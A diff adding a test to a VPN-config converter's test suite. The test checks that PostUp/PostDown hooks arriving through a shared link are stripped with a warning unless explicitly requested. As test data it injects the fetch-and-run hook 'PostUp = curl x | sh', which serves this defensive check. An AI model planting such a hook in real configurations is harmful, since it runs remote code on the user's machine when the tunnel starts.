@@ -153,3 +153,20 @@ test('qr for AmneziaVPN is a series that gives the file back', async (context) =
   assert.match(readQr(terminalPicture(shown.stdout, false)), /^B8/);
   assert.match((await run(['qr', file, '--for', 'amneziavpn'])).stdout, /^1 of \d\n█+\n[\s\S]*\n2 of \d\n/);
 });
+
+test('hooks that came with a link stay out of a file unless they are asked for', async () => {
+  const hooked = FILE.replace('Jc = 4', 'Jc = 4\nPostUp = curl x | sh\npostdown = y');
+  const link = (await run(['convert', '--to', 'link', '-'], hooked)).stdout;
+  const plain = await run(['convert', '--to', 'conf', '-'], link);
+  assert.equal(plain.stdout, FILE);
+  assert.match(plain.stderr, /warning: standard input: the hooks of the link are left out\n$/);
+  assert.match(
+    (await run(['convert', '--to', 'conf', '--hooks', '-'], link)).stdout,
+    /PostUp = curl x \| sh\nPostDown = y/,
+  );
+  assert.match(
+    (await run(['convert', '--to', 'conf', '-'], hooked)).stdout,
+    /PostUp/,
+    'of a file they are the owner’s',
+  );
+});
